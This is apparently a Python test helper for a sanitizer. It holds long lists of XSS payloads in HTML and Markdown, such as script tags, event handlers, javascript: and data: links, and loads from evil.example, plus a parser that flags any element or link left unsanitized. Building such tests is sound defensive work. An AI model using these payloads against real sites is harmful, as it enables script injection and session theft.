"""What people with bad intentions type, and a reader that finds whether any of it came alive."""

from __future__ import annotations

from collections.abc import Mapping, Set
from html.parser import HTMLParser
from urllib.parse import urlsplit

SCRIPTS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div id=main name=main class=page>clobbered</div>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</p></div></article><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    "{{ 7*7 }}{% debug %}",
    "${alert(1)}#{alert(1)}",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;avascript&colon;alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/accounts/logout/)",
    "[x](#main)",
    "[x](\\\\evil.example)",
    "[x](https://disputatio.example@evil.example/)",
    '[x](http://a.b" onmouseover="alert(1))',
    "[x](http://a.b 'title\" onmouseover=\"alert(1)')",
    '[x](http://a.b "title")',
    '[x"><script>alert(1)</script>](http://a.b)',
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    '![x" onerror="alert(1)](http://a.b/x.png)',
    "<javascript:alert(1)>",
    '<http://a.b/"onmouseover="alert(1)>',
    "[x]: javascript:alert(1)\n\n[x]",
    '[x]: http://a.b ("><script>alert(1)</script>)\n\n[x]',
    '```"><script>alert(1)</script>\nx\n```',
    "```js onload=alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script> {#main .page onclick=alert(1)}",
    '# x {id="main"}',
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. [x](javascript:alert(1))",
    'https://a.b/"onmouseover=alert(1)//',
    "https://a.b/'><script>alert(1)</script>",
    "http://a.b<script>alert(1)</script>",
    "[http://good.example](http://a.b)[x](javascript:alert(1))",
    '<a href="http://a.b" onclick="alert(1)">x</a>',
    "[](javascript:alert(1))",
    "**<b onmouseover=alert(1)>x</b>**",
    "<b>*x*</b onclick=alert(1)>",
    "\u202e<script>alert(1)</script>",
)


class Element:
    """A start tag as it was parsed."""

    def __init__(self, name: str, attributes: Mapping[str, str]) -> None:
        self.name = name
        self.attributes = attributes


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []
        self.words: list[str] = []
        self.others: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    def handle_decl(self, decl: str) -> None:
        self.others.append(decl)

    def unknown_decl(self, data: str) -> None:
        self.others.append(data)

    def handle_pi(self, data: str) -> None:
        self.others.append(data)


def elements_of(html: str) -> list[Element]:
    """All elements of a piece of HTML."""
    return _read(html).elements


def words_of(html: str) -> str:
    """All its text."""
    return "".join(_read(html).words)


def _read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


def what_is_alive(
    html: str, *, tags: Set[str], attributes: Mapping[str, Set[str]], schemes: Set[str]
) -> list[str]:
    """Everything in it that is not on the lists; an empty list is a safe piece of HTML."""
    reader = _read(html)
    alive = [f"not an element: {other}" for other in reader.others]
    for element in reader.elements:
        if element.name not in tags:
            alive.append(f"<{element.name}>")
        for name, value in element.attributes.items():
            if name not in attributes.get(element.name, frozenset()):
                alive.append(f"<{element.name} {name}>")
            if name == "href" and (urlsplit(value).scheme not in schemes or value != value.strip()):
                alive.append(value)
    return alive
